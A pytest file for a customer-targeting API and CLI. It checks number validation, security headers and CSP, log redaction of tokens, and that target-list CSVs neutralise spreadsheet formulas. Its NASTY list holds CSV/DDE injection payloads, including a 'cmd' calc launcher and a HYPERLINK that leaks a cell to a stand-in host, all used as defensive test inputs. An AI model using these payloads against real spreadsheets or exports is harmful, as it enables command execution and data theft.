"""The API's security and input-validation findings, each checked against the real app.

- numbers (budget, top, cost, margin, control, seed) must be finite and in range: 422
  with a one-line detail from the API, one line and exit 1 from the CLI, and the
  keep-alive connection of a real server survives the refusal;
- target-list CSVs (API download and the CLI's file) neutralise spreadsheet formulas;
- uvicorn's access log of a real `propensity serve` never shows a token;
- `/docs` loads nothing from elsewhere and renders in headless Chromium without a CSP
  violation, as does the web page;
- security headers on every response, a JSON one-line detail on every 4xx (and on an
  unexpected 500).

The world is tests/test_api.py's scored sample world (built once per session).
"""

from __future__ import annotations

import http.client
import io
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote

import pandas as pd
import pytest
from typer.testing import CliRunner

from features.load import Warehouse
from propensity.config import config_toml
from serving.security import RedactSecrets, redact
from serving.target import TargetList, TargetingError, check_request, csv_text, save_target_list, spreadsheet_safe
from serving.tokens import Role
from tests.test_api import _campaign, auth, client, read, world  # noqa: F401  (fixtures)

ROOT = Path(__file__).resolve().parents[1]
NASTY = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
         "\t=1+2", "\r=1+2", "=1+2\n=3+4"]


def one_line_detail(response) -> str:
    """The response's JSON `detail`, asserted to be one line of text."""
    assert response.headers["content-type"].startswith("application/json"), response.headers
    detail = response.json()["detail"]
    assert isinstance(detail, str) and detail and "\n" not in detail and "\r" not in detail, detail
    return detail


# -- numbers: finite and in range ------------------------------------------------------------------

@pytest.mark.parametrize("body, field", [
    ('{"campaign": "C", "budget": Infinity}', "budget: Input should be a finite number"),
    ('{"campaign": "C", "budget": -Infinity}', "budget: Input should be a finite number"),
    ('{"campaign": "C", "budget": NaN}', "budget: Input should be a finite number"),
    ('{"campaign": "C", "budget": 1e300}', "budget: Input should be less than or equal to 1000000000000"),
    ('{"campaign": "C", "budget": 1e400}', "budget: Input should be a finite number"),  # json reads inf
    ('{"campaign": "C", "top": 1e300}', "invalid input: top: "),
    ('{"campaign": "C", "top": 100000000000000000000000000000000}', "top: Input should be less than or equal to"),
    ('{"campaign": "C", "budget": 10, "cost": Infinity}', "cost: Input should be a finite number"),
    ('{"campaign": "C", "budget": 10, "cost": 1e300}', "cost: Input should be less than or equal to"),
    ('{"campaign": "C", "top": 5, "margin": NaN}', "margin: Input should be a finite number"),
    ('{"campaign": "C", "top": 5, "control": NaN}', "control: Input should be a finite number"),
    ('{"campaign": "C", "top": 5, "control": -Infinity}', "control: Input should be a finite number"),
    ('{"campaign": "C", "top": 5, "seed": 1e30}', "invalid input: seed: "),
    ('{"campaign": "C", "top": 5, "seed": 18446744073709551616}', "seed: Input should be less than or equal to"),
])
def test_non_finite_or_huge_numbers_are_422_with_one_line(world, client, body: str, field: str) -> None:
    response = client.post("/targets", content=body.replace('"C"', json.dumps(_campaign(world))).encode(),
                           headers={**auth(world, "marketer"), "Content-Type": "application/json"})
    assert response.status_code == 422, response.text
    assert field in one_line_detail(response)


def test_a_budget_no_list_can_be_cut_at_is_422_not_500(world, client) -> None:
    # Each number is in range, but together they pay for 1e18 contacts.
    response = client.post("/targets", json={"campaign": _campaign(world), "budget": 1e12, "cost": 1e-6},
                           headers=auth(world, "marketer"))
    assert response.status_code == 422, response.text
    assert "pays for more than 1,000,000,000 contacts" in one_line_detail(response)
    # ... and the largest budget the API takes with a real cost is an ordinary list (the audience, capped)
    big = client.post("/targets", json={"campaign": _campaign(world), "budget": 1e9, "cost": 1.0, "control": 0.5},
                      headers=auth(world, "marketer"))
    assert big.status_code == 200, big.text
    assert big.json()["summary"]["selected"] <= 2000


@pytest.mark.parametrize("kwargs, message", [
    ({"budget": float("inf")}, "--budget must be a finite number, got inf"),
    ({"budget": float("nan")}, "--budget must be a finite number, got nan"),
    ({"budget": 1e300}, "--budget 1e+300 at --cost 1 pays for more than 1,000,000,000 contacts"),
    ({"budget": 5.0, "cost": 1e-320}, "pays for more than 1,000,000,000 contacts"),
    ({"top": 10**12}, "--top 1,000,000,000,000 is more than 1,000,000,000 contacts"),
    ({"top": 5, "margin": float("nan")}, "--margin must be a finite number"),
    ({"top": 5, "control": float("-inf")}, "--control must be a finite number"),
    ({"top": 5, "cost": float("inf")}, "--cost must be a finite number"),
])
def test_check_request_refuses_what_no_list_can_be_built_from(kwargs: dict, message: str) -> None:
    args = {"budget": None, "top": None, "cost": 1.0, "margin": 0.3, "control": 0.1} | kwargs
    with pytest.raises(TargetingError) as caught:
        check_request(**args)
    assert message in str(caught.value)
    check_request(budget=1e9, top=None, cost=1.0, margin=0.3, control=0.1)  # at the bound: fine


def _toml(world: dict) -> Path:
    cfg = world["cfg"]
    cfg = cfg.model_copy(update={
        "features": cfg.features.model_copy(update={"output_dir": str(world["folder"] / "out")}),
        "api": cfg.api.model_copy(update={"token_file": str(world["token_file"])}),
    })
    path = world["folder"] / "security.toml"
    path.write_text(config_toml(cfg))
    return path


def _saved_lists(world: dict) -> int:
    with Warehouse(world["cfg"].warehouse.url, read_only=True) as wh:
        return int(wh.query("select count(*) as n from target_lists")["n"][0]) if wh.has("target_lists") else 0


@pytest.mark.parametrize("args, message", [
    (["target", "{campaign}", "--budget", "inf"], "error: --budget must be a finite number, got inf"),
    (["target", "{campaign}", "--budget", "1e300"], "error: --budget 1e+300 at --cost 1 pays for more than"),
    (["target", "{campaign}", "--budget", "nan"], "error: --budget must be a finite number, got nan"),
    (["target", "{campaign}", "--top", "99999999999999"], "error: --top 99,999,999,999,999 is more than"),
    (["target", "{campaign}", "--top", "5", "--margin", "inf"], "error: --margin must be a finite number, got inf"),
    (["target", "{campaign}", "--top", "5", "--control", "nan"], "error: --control must be a finite number"),
    (["score", "--as-of", "2025-06-01", "--margin", "nan"], "error: --margin nan: give the share of value"),
    (["score", "--as-of", "2025-06-01", "--contact-cost", "inf"], "error: --contact-cost inf: give the cost"),
    (["score", "--as-of", "2025-06-01", "--contact-cost", "1e300"], "error: --contact-cost 1e+300: give the cost"),
])
def test_cli_refuses_non_finite_numbers_in_one_line(world, args: list[str], message: str) -> None:
    from propensity.cli import app

    before = _saved_lists(world)
    argv = [a.format(campaign=_campaign(world)) for a in args] + ["--config", str(_toml(world))]
    result = CliRunner().invoke(app, argv)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert result.output.strip().splitlines()[-1].startswith(message), result.output
    assert [line for line in result.output.splitlines() if line.startswith("error:")] == [
        result.output.strip().splitlines()[-1]]
    assert _saved_lists(world) == before  # nothing written


# -- CSV injection ----------------------------------------------------------------------------------

def test_spreadsheet_safe_quotes_formula_text_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"customer_id": [*NASTY, "C0001", "a=b", None],
                          "score_used": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, -8.0, 9.0, None],
                          "rank": range(1, 11)})
    safe = spreadsheet_safe(frame)
    assert safe["customer_id"].tolist()[:7] == ["'" + v for v in NASTY]
    assert safe["customer_id"].tolist()[7:9] == ["C0001", "a=b"] and pd.isna(safe["customer_id"].iloc[9])
    pd.testing.assert_series_equal(safe["score_used"], frame["score_used"])  # numbers stay numbers
    assert frame["customer_id"].iloc[0] == NASTY[0]  # the input is not changed
    back = pd.read_csv(io.StringIO(csv_text(frame)))
    assert len(back) == 10  # the CR and LF inside cells are quoted: no extra rows
    assert back["customer_id"].tolist()[:7] == ["'" + v for v in NASTY]
    assert back["score_used"].iloc[0] == -1.5 and back["score_used"].dtype.kind == "f"
    for cell in back["customer_id"].dropna():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_target_list_csvs_from_api_and_cli_neutralise_formulas(world, client, tmp_path: Path) -> None:
    """A list whose ids and name are formulas: the CLI's CSV file and the API's download show them as text."""
    campaign = "@SUM(1+1)"
    frame = pd.DataFrame({
        "customer_id": NASTY, "rank": range(1, len(NASTY) + 1), "group": ["treatment"] * len(NASTY),
        "score_used": [-0.5 - i for i in range(len(NASTY))], "churn_risk": 0.5, "response_prob": 0.1,
        "predicted_value": 10.0, "value_at_risk": 5.0, "response_value": float("nan"),
        "expected_profit": -1.25, "uplift": float("nan"), "incremental_profit": float("nan")})
    target = TargetList(campaign, "value", frame, {"campaign_kind": None, "run_id": world["run_id"]},
                        pd.DataFrame())
    with Warehouse(world["cfg"].warehouse.url) as wh:
        list_id = save_target_list(wh, target, csv_dir=tmp_path)
    assert list_id.startswith("sum-1-1-")  # the id is a slug of the name: safe in files and URLs
    files = {"cli": (tmp_path / f"{list_id}.csv").read_bytes().decode()}
    response = client.get(f"/targets/{quote(list_id, safe='')}.csv", headers=auth(world, "marketer"))
    assert response.status_code == 200, response.text
    files["api"] = response.text
    for where, text in files.items():
        rows = pd.read_csv(io.StringIO(text), keep_default_na=False)
        assert len(rows) == len(NASTY), where
        assert rows["customer_id"].tolist() == ["'" + v for v in NASTY], where
        assert rows["score_used"].tolist() == frame["score_used"].tolist(), where  # negative numbers unquoted
        if "list_id" in rows:
            assert set(rows["campaign"]) == {"'" + campaign} and set(rows["list_id"]) == {list_id}, where
        for column in rows.columns:
            for cell in rows[column].astype(str):
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (where, column, cell)
                if cell.startswith("-"):
                    float(cell)  # only numbers may start with a minus sign
        stored = read(world, "select customer_id from target_lists where list_id = ? order by rank", [list_id])
        assert stored["customer_id"].tolist() == NASTY  # the table keeps the ids as they are


# -- headers and error bodies -------------------------------------------------------------------------

COMMON = {"x-content-type-options": "nosniff", "x-frame-options": "DENY", "referrer-policy": "no-referrer"}


def test_security_headers_on_every_kind_of_response(world, client) -> None:
    admin = auth(world, "admin")
    version = world["versions"]["churn"]
    made = client.post("/targets", json={"campaign": _campaign(world), "top": 5}, headers=admin).json()
    cases = [  # path, headers, status, CSP starts with, no-store
        ("/runs", admin, 200, "default-src 'none'", True),
        ("/me", admin, 200, "default-src 'none'", True),
        ("/health", {}, 200, "default-src 'none'", True),
        ("/runs", {}, 401, "default-src 'none'", True),
        ("/customers/NOPE", admin, 404, "default-src 'none'", True),
        ("/runs?limit=0", admin, 422, "default-src 'none'", True),
        ("/no/such/path", {}, 404, "default-src 'none'", True),
        (made["download_url"], admin, 200, "default-src 'none'", True),
        (f"/models/churn/card?version={version}", admin, 200, "default-src 'none'; img-src data:", True),
        ("/", {}, 200, "default-src 'self'", True),
        ("/docs", {}, 200, "default-src 'none'; script-src 'self'", True),
        ("/openapi.json", {}, 200, "default-src 'none'", True),
        ("/static/app.js", {}, 200, "default-src 'none'", False),
        ("/docs/assets/swagger-ui-bundle.js", {}, 200, "default-src 'none'", False),
    ]
    for path, headers, status, csp, no_store in cases:
        response = client.get(path, headers=headers)
        assert response.status_code == status, (path, response.text[:200])
        for name, value in COMMON.items():
            assert response.headers.get(name) == value, (path, name)
        policy = response.headers["content-security-policy"]
        assert policy.startswith(csp) and "frame-ancestors 'none'" in policy, (path, policy)
        assert (response.headers.get("cache-control") == "no-store") == no_store, (path, response.headers)
    card = client.get(f"/models/churn/card?version={version}", headers=admin)
    assert "sandbox" in card.headers["content-security-policy"].split("; ")  # a card runs no script
    page = client.get("/").headers["content-security-policy"]
    assert "script-src 'self'" in page and "'unsafe-inline'" not in page.split("script-src")[1].split(";")[0]


@pytest.mark.parametrize("method, path, kwargs, status", [
    ("get", "/no/such/path", {}, 404),
    ("put", "/runs", {}, 405),
    ("delete", "/targets", {}, 405),
    ("post", "/targets", {"content": b"[1, 2", "headers": {"Content-Type": "application/json"}}, 422),
    ("post", "/targets", {"content": b"[1, 2]", "headers": {"Content-Type": "application/json"}}, 422),
    ("post", "/targets", {"content": b"null", "headers": {"Content-Type": "application/json"}}, 422),
    ("post", "/targets", {"content": b"campaign=x", "headers": {"Content-Type": "text/plain"}}, 422),
    ("post", "/targets", {"json": {"campaign": "line\nbreak", "top": 1}}, 422),
    ("post", "/targets", {"json": {"campaign": "x", "top": 1, "new\nkey": 1}}, 422),
    ("post", "/score", {"json": {"customer_id": "C1", "as_of": "0001-01-01"}}, 404),  # no data that early
    ("post", "/score", {"json": {"customer_id": "C1", "as_of": "9999-12-31"}}, 422),
    ("get", "/runs?limit=99999999999999999999999", {}, 422),
    ("get", "/customers/%00", {}, 404),
    ("get", "/targets/%0A%0D.csv", {}, 404),
])
def test_every_client_error_is_a_json_one_line_detail(world, client, method, path, kwargs, status) -> None:
    kwargs = dict(kwargs)
    kwargs["headers"] = {**auth(world, "admin"), **kwargs.get("headers", {})}
    response = getattr(client, method)(path, **kwargs)
    assert response.status_code == status, response.text
    one_line_detail(response)


def test_an_unexpected_error_is_a_json_500_with_headers_and_no_internals(world) -> None:
    from fastapi.testclient import TestClient

    from serving.api import create_app

    app = create_app(world["cfg"], world["token_file"])

    @app.get("/boom")
    def boom() -> None:
        raise RuntimeError("secret internals\nsecond line")

    with TestClient(app) as c:  # raises server exceptions: none escapes the app
        response = c.get("/boom")
        assert response.status_code == 500
        detail = one_line_detail(response)
        assert "RuntimeError" in detail and "secret" not in detail
        for name, value in COMMON.items():
            assert response.headers[name] == value
        assert c.get("/health").status_code == 200


# -- docs ------------------------------------------------------------------------------------------

def test_docs_and_schema_are_open_and_load_nothing_from_elsewhere(world, client) -> None:
    page = client.get("/docs")
    assert page.status_code == 200 and "swagger" in page.text.lower()
    assert "http://" not in page.text and "https://" not in page.text and "<script>" not in page.text
    for asset in ("docs/assets/swagger-ui-bundle.js", "docs/assets/swagger-ui.css", "docs/start.js",
                  "docs/assets/favicon.png"):
        assert f'"{asset}"' in page.text
        assert client.get("/" + asset).status_code == 200, asset
    assert client.get("/redoc").status_code == 404  # ReDoc is CDN-only in FastAPI: off
    spec = client.get("/openapi.json")
    assert spec.status_code == 200
    assert client.get("/runs").status_code == 401  # the data still needs a token
    # the errors are documented as they are sent: {"detail": "<one line>"}
    body = spec.json()
    assert body["components"]["schemas"]["Error"]["required"] == ["detail"]
    assert "HTTPValidationError" not in body["components"]["schemas"]
    post = body["paths"]["/targets"]["post"]["responses"]
    assert {"200", "401", "403", "404", "422", "503"} <= set(post)
    assert post["422"]["content"]["application/json"]["schema"] == {"$ref": "#/components/schemas/Error"}
    budget = body["components"]["schemas"]["TargetRequest"]["properties"]["budget"]["anyOf"][0]
    assert budget["maximum"] == 1e12 and budget["exclusiveMinimum"] == 0


# -- the access log --------------------------------------------------------------------------------

def test_redact_hides_tokens_and_credential_parameters() -> None:
    secret = "ppt_0123456789ab_" + "S" * 43
    assert redact(f"/runs?token={secret}&limit=5") == "/runs?token=REDACTED&limit=5"
    assert redact(f"/runs?limit=5&access_token=abc&x=1") == "/runs?limit=5&access_token=REDACTED&x=1"
    assert redact("/runs?api_key=abc%20def") == "/runs?api_key=REDACTED"
    assert redact(f"/customers/{secret}") == "/customers/REDACTED"
    assert redact("/runs?limit=5&campaign=a%20b") == "/runs?limit=5&campaign=a%20b"  # left alone
    import logging

    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d',
                               ("127.0.0.1:5", "GET", f"/runs?token={secret}", "1.1", 401), None)
    RedactSecrets().filter(record)
    assert secret not in record.getMessage() and "/runs?token=REDACTED" in record.getMessage()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def served(world, tmp_path_factory):
    """A real `propensity serve` subprocess on a free port; yields (host, port, log files); stops it after."""
    port = _free_port()
    logs = tmp_path_factory.mktemp("serve")
    out, err = open(logs / "stdout.log", "wb"), open(logs / "stderr.log", "wb")
    env = {**os.environ, "PYTHONUNBUFFERED": "1", "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([str(Path(sys.executable).parent / "propensity"), "serve", "--host", "127.0.0.1", "--port",
                             str(port), "--config", str(_toml(world))], stdout=out, stderr=err, env=env, cwd=ROOT)
    deadline = time.monotonic() + 90
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1):
                break
        except OSError:
            if proc.poll() is not None or time.monotonic() > deadline:
                proc.kill()
                pytest.fail(f"propensity serve did not start: {(logs / 'stderr.log').read_text()[-2000:]}")
            time.sleep(0.2)
    try:
        yield "127.0.0.1", port, logs, proc
    finally:
        if proc.poll() is None:
            proc.terminate()
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
        out.close()
        err.close()


def test_a_refused_number_keeps_the_keep_alive_connection(world, served) -> None:
    host, port, _logs, _proc = served
    conn = http.client.HTTPConnection(host, port, timeout=60)
    headers = {**auth(world, "marketer"), "Content-Type": "application/json"}
    conn.connect()
    sock = conn.sock
    for body in ('{"campaign": "C", "budget": Infinity}', '{"campaign": "C", "budget": 1e300}',
                 '{"campaign": "C", "top": 5, "control": NaN}'):
        conn.request("POST", "/targets", body=body.replace('"C"', json.dumps(_campaign(world))), headers=headers)
        response = conn.getresponse()
        detail = json.loads(response.read())["detail"]
        assert response.status == 422 and "\n" not in detail, detail
        assert (response.getheader("connection") or "").lower() != "close"
    conn.request("GET", "/health")
    response = conn.getresponse()
    assert response.status == 200 and json.loads(response.read())["status"] == "ok"
    assert conn.sock is sock  # the same connection answered every request
    conn.close()


def test_the_access_log_of_propensity_serve_never_shows_a_token(world, served) -> None:
    host, port, logs, proc = served
    secret = world["tokens"][Role.admin]
    conn = http.client.HTTPConnection(host, port, timeout=60)

    def get(path: str, headers: dict | None = None) -> int:
        conn.request("GET", path, headers=headers or {})
        response = conn.getresponse()
        response.read()
        return response.status

    header = {"Authorization": f"Bearer {secret}"}
    assert get(f"/runs?token={secret}") == 401  # the API takes tokens from the header only
    assert get(f"/runs?limit=1&access_token={secret}", header) == 200
    assert get(f"/runs?api_key=hunter2&limit=1", header) == 200
    assert get(f"/customers/{secret}", header) == 404  # a token pasted as an id
    assert get(f"/health?next={secret}") == 200  # a token-shaped value under any name
    conn.close()
    proc.terminate()  # uvicorn flushes its log on a graceful stop
    proc.wait(timeout=30)
    text = (logs / "stdout.log").read_text() + (logs / "stderr.log").read_text()
    # the access log was captured: the lines are there, with the secrets blanked
    assert '"GET /runs?token=REDACTED HTTP/1.1" 401' in text, text[-3000:]
    assert '"GET /runs?limit=1&access_token=REDACTED HTTP/1.1" 200' in text
    assert '"GET /runs?api_key=REDACTED&limit=1 HTTP/1.1" 200' in text
    assert '"GET /customers/REDACTED HTTP/1.1" 404' in text
    assert '"GET /health?next=REDACTED HTTP/1.1" 200' in text
    assert secret not in text and secret.split("_")[-1] not in text and "hunter2" not in text


# -- in headless Chromium: the page and the docs work under their CSP -----------------------------------

# The test_web fixtures: the app under uvicorn in a thread, Debian's Chromium through Playwright.
from tests.test_web import browser, click, server, shoot, sign_in  # noqa: E402,F401  (fixtures)

WATCH_CSP = """
window.__csp = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
"""


class Watch:
    """What a browser page did that it should not: CSP violations (DOM events and console), outside requests."""

    def __init__(self, page, base: str) -> None:
        self.page, self.base = page, base
        self.console: list[str] = []
        self.outside: list[str] = []
        page.add_init_script(WATCH_CSP)
        page.on("console", lambda m: self.console.append(m.text))
        page.on("request", lambda r: None if r.url.startswith((base, "data:", "blob:", "about:"))
                else self.outside.append(r.url))

    def violations(self) -> list[str]:
        events = [f"event: {v}" for f in self.page.frames for v in (f.evaluate("window.__csp || []")
                                                                    if not f.is_detached() else [])]
        said = [f"console: {m}" for m in self.console if "Content Security Policy" in m]
        return events + said


def _new_page(browser, base: str):
    context = browser.new_context(viewport={"width": 1200, "height": 900}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(60_000)
    return context, page, Watch(page, base)


@pytest.mark.slow
def test_the_watch_sees_a_csp_violation(server, browser) -> None:
    """The detector below can fail: an inline script on the page is refused and reported."""
    base, _world = server
    context, page, watch = _new_page(browser, base)
    try:
        page.goto(base + "/")
        page.evaluate("() => { const s = document.createElement('script'); s.textContent = 'window.__ran = 1';"
                      " document.body.append(s); }")
        page.wait_for_timeout(300)
        assert page.evaluate("window.__ran") is None  # refused by script-src 'self'
        found = watch.violations()
        assert any("script-src" in v for v in found if v.startswith("event:")), found
        assert any(v.startswith("console:") for v in found), found
    finally:
        context.close()


@pytest.mark.slow
def test_docs_work_offline_in_chromium_without_csp_violations(server, browser, tmp_path: Path) -> None:
    base, world = server
    context, page, watch = _new_page(browser, base)
    try:
        page.goto(base + "/docs")
        page.wait_for_selector(".swagger-ui .opblock")
        spec = page.evaluate("fetch('/openapi.json').then(r => r.json())")
        operations = sum(len(item) for item in spec["paths"].values())
        assert page.locator(".swagger-ui .opblock").count() == operations
        # Authorize with a token, then call GET /me from the docs ("Try it out")
        page.click(".swagger-ui .btn.authorize")
        page.fill(".modal-ux input", world["tokens"][Role.auditor])
        page.click(".modal-ux .btn.modal-btn.auth.authorize")
        page.click(".modal-ux .btn-done")
        page.click("#operations-service-me_me_get .opblock-summary")
        page.click("#operations-service-me_me_get .try-out__btn")
        page.click("#operations-service-me_me_get .execute")
        status = page.locator("#operations-service-me_me_get .live-responses-table tbody .response-col_status").first
        status.wait_for()
        assert status.inner_text().strip() == "200"
        assert "test-auditor" in page.inner_text("#operations-service-me_me_get .live-responses-table")
        shoot(page, tmp_path, "api-docs")
        assert watch.outside == [] and watch.violations() == []
    finally:
        context.close()


@pytest.mark.slow
def test_web_page_works_under_its_csp(server, browser) -> None:
    """Sign in, build a list and download it (marketer); reasons, model card in its frame, lineage (auditor)."""
    base, world = server
    context, page, watch = _new_page(browser, base)
    try:
        sign_in(page, base, world["tokens"][Role.admin])
        page.wait_for_selector("#segments table")
        page.select_option("#campaign", _campaign(world))
        page.fill("#budget", "40")
        click(page, "#build")
        page.wait_for_selector("#gain-svg polyline[data-series=model]")
        with page.expect_download():
            click(page, "#download")
        click(page, "#tab-auditor")
        customer = read(world, "select customer_id from current_customer_scores order by customer_id limit 1")
        page.fill("#customer-id", customer["customer_id"][0])
        click(page, "#lookup")
        page.wait_for_selector("#models article.model[data-model=churn] svg rect[data-step]")
        click(page, "#models article.model[data-model=churn] a.card-link")
        page.wait_for_selector("#doc-panel:not([hidden]) #doc-frame")
        frame = page.frame_locator("#doc-frame")
        frame.locator("img").first.wait_for()
        assert "churn" in frame.locator("body").inner_text().lower()
        images = frame.locator("img")
        assert images.count() > 0  # the card's charts (data: images) are shown
        assert all(images.nth(i).evaluate("i => i.complete && i.naturalWidth > 0") for i in range(images.count()))
        click(page, "#lineage-link")
        page.wait_for_selector("#doc-lineage:not([hidden]) dl.fields")
        assert watch.outside == [] and watch.violations() == []
    finally:
        context.close()
